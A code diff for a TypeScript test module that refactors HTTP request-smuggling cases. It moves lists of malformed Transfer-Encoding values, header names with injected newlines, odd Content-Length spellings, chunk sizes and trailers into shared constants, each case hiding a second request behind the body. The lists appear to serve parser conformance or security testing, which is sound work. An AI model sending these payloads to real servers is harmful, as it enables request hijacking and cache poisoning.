@@ -1,58 +1,64 @@
 /** Attacks on where a body ends: codings, lengths, chunks, and requests behind bodies nobody reads. */
 import { type Attack, animal, type Kit } from './raw-attacks-kit.ts';
 
+const n = animal.length;
+/** As a chunk says it. */
+const size = n.toString(16);
+
+const codingValues = [
+  'chunked',
+  'Chunked',
+  'CHUNKED',
+  'xchunked',
+  'chunkedx',
+  'chunked, identity',
+  'identity, chunked',
+  'identity',
+  'gzip, chunked',
+  'chunked, gzip',
+  'chunked, chunked',
+  '"chunked"',
+  'chunked;q=1',
+  'chunked ;a',
+  '\x0bchunked',
+  '\x0cchunked',
+  '\tchunked\t',
+  'chunked\0',
+  '\0chunked',
+  '',
+  ',',
+  'chunked,',
+  ',chunked',
+  'cow',
+  'chun ked',
+  '\xa0chunked',
+  'chunked\x85',
+];
+
+const codingNames = [
+  'Transfer-Encoding',
+  'TRANSFER-ENCODING',
+  'Transfer-Encoding ',
+  'Transfer-Encoding\t',
+  ' Transfer-Encoding',
+  '\tTransfer-Encoding',
+  'Transfer_Encoding',
+  'Transfer Encoding',
+  'X: a\nTransfer-Encoding',
+  'X: a\rTransfer-Encoding',
+  'Transfer-Encoding\0',
+  '\0Transfer-Encoding',
+  'Transfer\u00adEncoding',
+  'X:\r\n Transfer-Encoding',
+  '"Transfer-Encoding"',
+];
+
 /** Transfer-Encoding in every spelling, alone and beside a Content-Length, with a request where one of both sees none. */
 export function codings({ post, secret }: Kit): Attack[] {
-  const values = [
-    'chunked',
-    'Chunked',
-    'CHUNKED',
-    'xchunked',
-    'chunkedx',
-    'chunked, identity',
-    'identity, chunked',
-    'identity',
-    'gzip, chunked',
-    'chunked, gzip',
-    'chunked, chunked',
-    '"chunked"',
-    'chunked;q=1',
-    'chunked ;a',
-    '\x0bchunked',
-    '\x0cchunked',
-    '\tchunked\t',
-    'chunked\0',
-    '\0chunked',
-    '',
-    ',',
-    'chunked,',
-    ',chunked',
-    'cow',
-    'chun ked',
-    '\xa0chunked',
-    'chunked\x85',
-  ];
-  const names = [
-    'Transfer-Encoding',
-    'TRANSFER-ENCODING',
-    'Transfer-Encoding ',
-    'Transfer-Encoding\t',
-    ' Transfer-Encoding',
-    '\tTransfer-Encoding',
-    'Transfer_Encoding',
-    'Transfer Encoding',
-    'X: a\nTransfer-Encoding',
-    'X: a\rTransfer-Encoding',
-    'Transfer-Encoding\0',
-    '\0Transfer-Encoding',
-    'Transfer\u00adEncoding',
-    'X:\r\n Transfer-Encoding',
-    '"Transfer-Encoding"',
-  ];
   const ended = `0\r\n\r\n${secret}`;
   const lines = [
-    ...values.map((value) => `Transfer-Encoding: ${value}\r\n`),
-    ...names.map((name) => `${name}: chunked\r\n`),
+    ...codingValues.map((value) => `Transfer-Encoding: ${value}\r\n`),
+    ...codingNames.map((name) => `${name}: chunked\r\n`),
   ];
   return lines.flatMap((line) => [
     { what: `${JSON.stringify(line)} alone`, bytes: post(line, ended) },
@@ -67,38 +73,38 @@ export function codings({ post, secret }: Kit): Attack[] {
   ]);
 }
 
+const lengthValues = [
+  `+${n}`,
+  `-${n}`,
+  `0${n}`,
+  `00000000000000000000${n}`,
+  `${n}, ${n}`,
+  `${n},${n}`,
+  `${n}, 0`,
+  `0, ${n}`,
+  `0x1b`,
+  '2.7e1',
+  '27.0',
+  '27 27',
+  '27;a',
+  '27\0',
+  '\x0b27',
+  '27\x0c',
+  '2_7',
+  '٢٧',
+  '',
+  '-0',
+  '18446744073709551616',
+  `18446744073709551643`,
+  '4294967323',
+  '99999999999999999999999',
+  'NaN',
+  '"27"',
+];
+
 /** Content-Length in every spelling: with and without the body it may mean. */
 export function lengths({ post, request, secret }: Kit): Attack[] {
-  const n = animal.length;
-  const values = [
-    `+${n}`,
-    `-${n}`,
-    `0${n}`,
-    `00000000000000000000${n}`,
-    `${n}, ${n}`,
-    `${n},${n}`,
-    `${n}, 0`,
-    `0, ${n}`,
-    `0x1b`,
-    '2.7e1',
-    '27.0',
-    '27 27',
-    '27;a',
-    '27\0',
-    '\x0b27',
-    '27\x0c',
-    '2_7',
-    '٢٧',
-    '',
-    '-0',
-    '18446744073709551616',
-    `18446744073709551643`,
-    '4294967323',
-    '99999999999999999999999',
-    'NaN',
-    '"27"',
-  ];
-  const spelled = values.map((value) => ({
+  const spelled = lengthValues.map((value) => ({
     what: `Content-Length: ${value}`,
     bytes: post(`Content-Length: ${value}\r\n`, animal + secret),
   }));
@@ -143,47 +149,71 @@ export function lengths({ post, request, secret }: Kit): Attack[] {
   return [...spelled, ...pairs, ...names, ...reads];
 }
 
+const chunkSizes = [
+  `0x${size}`,
+  `+${size}`,
+  `-${size}`,
+  ` ${size}`,
+  `${size} `,
+  `${size}\t`,
+  `0${size}`,
+  `${'0'.repeat(15)}${size}`,
+  `${'0'.repeat(40)}${size}`,
+  `${size};a`,
+  `${size};a=b`,
+  `${size};a="b"`,
+  `${size};a="\r\n"`,
+  `${size} ;a`,
+  `${size};`,
+  `${size};;`,
+  `${size};\x00`,
+  `${size}\0`,
+  `1${'0'.repeat(16)}${size}`,
+  `ffffffffffffffff`,
+  `fffffffffffffffe`,
+  `7fffffffffffffff`,
+  `80000000000000${size}`,
+  `1_b`,
+  `${size}h`,
+  'g',
+  '',
+  ';',
+  `${size},${size}`,
+  `${size}\n`,
+  `${size};a\n`,
+  `\n${size}`,
+  `\r\n${size}`,
+  `${size};${'a'.repeat(20_000)}`,
+];
+
+const lastChunks = [
+  '0\n\n',
+  '0\r\n\n',
+  '0\n\r\n',
+  '00\r\n\r\n',
+  '000000000000000000000\r\n\r\n',
+  '0;a\r\n\r\n',
+  '0;a=b\r\n\r\n',
+  '0 \r\n\r\n',
+  '-0\r\n\r\n',
+  '0x0\r\n\r\n',
+  '0\r\nX\r\n\r\n',
+  '0\r\n X: a\r\n\r\n',
+  '0\r\nX: a\n\r\n',
+  '0\r\nX: a\r\n\r\n',
+  '0\r\nContent-Length: 5\r\n\r\n',
+  '0\r\nTransfer-Encoding: chunked\r\n\r\n',
+  '0\r\nAuthorization: Bearer x\r\n\r\n',
+  '0\r\nHost: b\r\n\r\n',
+  '0\r\n\r\nX',
+  '0\r\n\r\r\n',
+  '0\r\n',
+];
+
 /** Chunk sizes, ends and trailers; behind each a request that is body to one reader only. */
 export function chunks({ post, secret }: Kit): Attack[] {
   const coded = (body: string) => post('Transfer-Encoding: chunked\r\n', body);
-  const size = animal.length.toString(16);
-  const sizes = [
-    `0x${size}`,
-    `+${size}`,
-    `-${size}`,
-    ` ${size}`,
-    `${size} `,
-    `${size}\t`,
-    `0${size}`,
-    `${'0'.repeat(15)}${size}`,
-    `${'0'.repeat(40)}${size}`,
-    `${size};a`,
-    `${size};a=b`,
-    `${size};a="b"`,
-    `${size};a="\r\n"`,
-    `${size} ;a`,
-    `${size};`,
-    `${size};;`,
-    `${size};\x00`,
-    `${size}\0`,
-    `1${'0'.repeat(16)}${size}`,
-    `ffffffffffffffff`,
-    `fffffffffffffffe`,
-    `7fffffffffffffff`,
-    `80000000000000${size}`,
-    `1_b`,
-    `${size}h`,
-    'g',
-    '',
-    ';',
-    `${size},${size}`,
-    `${size}\n`,
-    `${size};a\n`,
-    `\n${size}`,
-    `\r\n${size}`,
-    `${size};${'a'.repeat(20_000)}`,
-  ];
-  const first = sizes.map((text) => ({
+  const first = chunkSizes.map((text) => ({
     what: `the chunk size ${JSON.stringify(text.slice(0, 30))}`,
     bytes: coded(`${text}\r\n${animal}\r\n0\r\n\r\n${secret}`),
   }));
@@ -192,29 +222,7 @@ export function chunks({ post, secret }: Kit): Attack[] {
     what: `${JSON.stringify(end)} behind the data of a chunk`,
     bytes: coded(`${whole}${end}0\r\n\r\n${secret}`),
   }));
-  const finals = [
-    '0\n\n',
-    '0\r\n\n',
-    '0\n\r\n',
-    '00\r\n\r\n',
-    '000000000000000000000\r\n\r\n',
-    '0;a\r\n\r\n',
-    '0;a=b\r\n\r\n',
-    '0 \r\n\r\n',
-    '-0\r\n\r\n',
-    '0x0\r\n\r\n',
-    '0\r\nX\r\n\r\n',
-    '0\r\n X: a\r\n\r\n',
-    '0\r\nX: a\n\r\n',
-    '0\r\nX: a\r\n\r\n',
-    '0\r\nContent-Length: 5\r\n\r\n',
-    '0\r\nTransfer-Encoding: chunked\r\n\r\n',
-    '0\r\nAuthorization: Bearer x\r\n\r\n',
-    '0\r\nHost: b\r\n\r\n',
-    '0\r\n\r\nX',
-    '0\r\n\r\r\n',
-    '0\r\n',
-  ].map((end) => ({
+  const finals = lastChunks.map((end) => ({
     what: `${JSON.stringify(end)} for the last chunk`,
     bytes: coded(`${whole}\r\n${end}${secret}`),
   }));
